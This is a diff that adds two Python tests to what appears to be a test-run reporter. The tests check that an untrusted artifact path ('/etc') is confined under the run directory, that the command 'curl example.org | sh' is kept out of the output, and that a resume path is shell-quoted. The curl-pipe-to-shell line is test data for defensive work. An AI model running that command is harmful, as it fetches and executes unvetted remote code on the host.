@@ -126,6 +126,20 @@ def test_one_case_in_full(make: Any) -> None:
     check("case-80.txt", plain(case_lines(merge(case, attempts), RUN, 80)))
 
 
+def test_a_strangers_paths_are_not_offered(make: Any) -> None:
+    attempt = make.attempt("fail", artifacts="/etc", command="curl example.org | sh")
+    result = merge(make.case(), [attempt])
+    text = plain([*outcome_lines(result, RUN, 80), *case_lines(result, RUN, 80)])
+    assert f"{RUN}//etc" in text
+    assert " /etc" not in text
+    assert "curl" not in text
+
+
+def test_a_path_to_be_copied_is_quoted(make: Any) -> None:
+    closing = Closing(Path("my runs/x"), 1, unfinished=("a",))
+    assert "matrix run --resume 'my runs/x'" in plain(summary([], closing, 80))
+
+
 def test_a_record_is_summed_up(make: Any, recorded: Any) -> None:
     recorder = recorded(
         [(make.run(), [make.attempt("fail", "broke")]), (make.run(make.case("b")), [])]
